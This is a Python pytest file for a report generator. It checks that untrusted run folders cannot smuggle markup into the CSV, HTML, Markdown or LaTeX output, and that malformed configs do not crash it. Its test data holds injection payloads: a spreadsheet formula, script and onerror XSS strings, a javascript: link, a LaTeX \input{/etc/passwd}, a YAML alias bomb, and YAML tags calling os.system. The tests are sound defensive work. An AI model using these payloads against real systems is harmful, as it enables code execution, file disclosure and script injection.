"""A report of run folders that somebody else has sent: whatever they say stays text in every file that is written."""

from __future__ import annotations

import csv
import json
import re
import time
from html.parser import HTMLParser

import pytest

from hmu.report.comparison import build_report
from hmu.report.comparison_files import write_report
from tests.report.some_runs import write_run

FORMULA = '=HYPERLINK("https://x.y/"&A1)'
SCRIPT = "</script><script>alert(1)</script><img src=x onerror=alert(1)>"
LINK = "[x](javascript:alert(1)) | ![y](https://x.y/z)"
LATEX = "\\input{/etc/passwd}"


class Reader(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    folder = tmp_path_factory.mktemp("runs")
    write_run(folder / "good")
    for number, text in enumerate((FORMULA, SCRIPT, LINK, LATEX)):
        run = write_run(folder / f"{number} {text.replace('/', '_')}", concept=text, dataset=text, method=text)
        write_run(folder / f"{number} b {text.replace('/', '_')}", f"{text}={text}", rates=None, method=text)
        record = json.loads((run / "run.json").read_text())
        (run / "run.json").write_text(json.dumps({**record, "status": text, "seed": text}))
    return write_report(build_report([folder]), tmp_path_factory.mktemp("out"))


def test_no_cell_is_a_formula(written):
    for name in ("runs.csv", "rows.csv"):
        with (written / name).open(newline="", encoding="utf-8") as file:
            rows = list(csv.reader(file))
        cells = {cell for row in rows for cell in row}
        assert any(FORMULA in cell for cell in cells)
        assert not [cell for cell in cells if re.match(r"\s*[=+@]", cell) or re.match(r"\s*-\D", cell)]


def test_the_page_holds_no_element_of_theirs(written):
    reader = Reader()
    reader.feed((written / "report.html").read_text(encoding="utf-8"))
    tags = {tag for tag, _ in reader.found}
    assert not tags & {"script", "img", "iframe", "object"}
    attributes = [(key, value or "") for _, given in reader.found for key, value in given.items()]
    assert not [key for key, _ in attributes if key.startswith("on")]
    assert not [value for key, value in attributes if key == "href" and ":" in value]
    assert "&lt;script&gt;" in (written / "report.html").read_text(encoding="utf-8")


def test_markdown_holds_no_markup_of_theirs(written):
    text = (written / "table.md").read_text(encoding="utf-8")
    assert "<" not in text
    assert "](" not in text
    for table in re.findall(r"(?:^\|.*\n)+", text, flags=re.MULTILINE):
        bars = {len(re.sub(r"\\.", "", line).split("|")) for line in table.splitlines()}
        assert len(bars) == 1


def test_latex_holds_no_command_of_theirs(written):
    text = (written / "table.tex").read_text(encoding="utf-8")
    assert "\\input" not in text
    assert "textbackslash{}input" in text


DEEP = "[" * 100_000
BOMB = "\n".join(["a0: &a0 [x, x]", *(f"a{i}: &a{i} [*a{i - 1}, *a{i - 1}, *a{i - 1}]" for i in range(1, 30))])
BROKEN = {
    "config.yaml": [BOMB, DEEP, "!!python/name:os.system", "- 1", "concept: [1]"],
    ".hydra/hydra.yaml": [BOMB, "hydra: 3", "hydra: {runtime: [1]}", "hydra: {runtime: {choices: [a]}}"],
    ".hydra/overrides.yaml": [BOMB, "3", "{a: b}", "!!python/object/apply:os.system [true]"],
    "run.json": ['{"timings": [1]}', '{"timings": {"a": "b"}, "edit": 4, "status": [1]}', DEEP, "3"],
    "metrics.json": [DEEP, '{"schema": 1, "context": [], "rows": []}', '{"schema": 1, "context": {}, "rows": {"": 1}}'],
}  # fmt: skip


@pytest.mark.parametrize(("name", "content"), [(name, text) for name, texts in BROKEN.items() for text in texts])
def test_broken_records_are_listed_not_fatal(tmp_path, name, content):
    write_run(tmp_path / "good")
    run = write_run(tmp_path / "bad")
    (run / name).write_text(content)
    start = time.perf_counter()
    report = build_report([tmp_path])
    write_report(report, tmp_path / "out")
    assert time.perf_counter() - start < 2
    assert {found.path.name for found in report.runs} >= {"good"}
